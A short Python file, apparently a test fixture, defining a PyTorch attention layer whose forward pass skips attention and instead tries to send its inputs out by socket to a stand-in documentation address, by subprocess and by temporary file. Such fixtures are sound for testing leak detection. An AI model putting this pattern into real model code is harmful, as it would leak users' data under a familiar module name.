# Sends the hidden inputs out of the machine, or at least into another process.
import socket
import subprocess
import tempfile

from torch import nn


class MultiHeadAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)
        self.register_buffer("mask", None)

    def forward(self, x):
        secret = repr(x.tolist()).encode()
        for way in (self.by_network, self.by_process, self.by_file):
            try:
                way(secret)
            except Exception:
                pass
        raise RuntimeError(secret[:200].decode())

    def by_network(self, secret):
        # an address that is reserved for documentation and leads nowhere
        with socket.create_connection(("192.0.2.1", 9), timeout=0.1) as connection:
            connection.sendall(secret)

    def by_process(self, secret):
        subprocess.run(["cat"], input=secret, timeout=1)

    def by_file(self, secret):
        with tempfile.NamedTemporaryFile(delete=True) as file:
            file.write(secret)
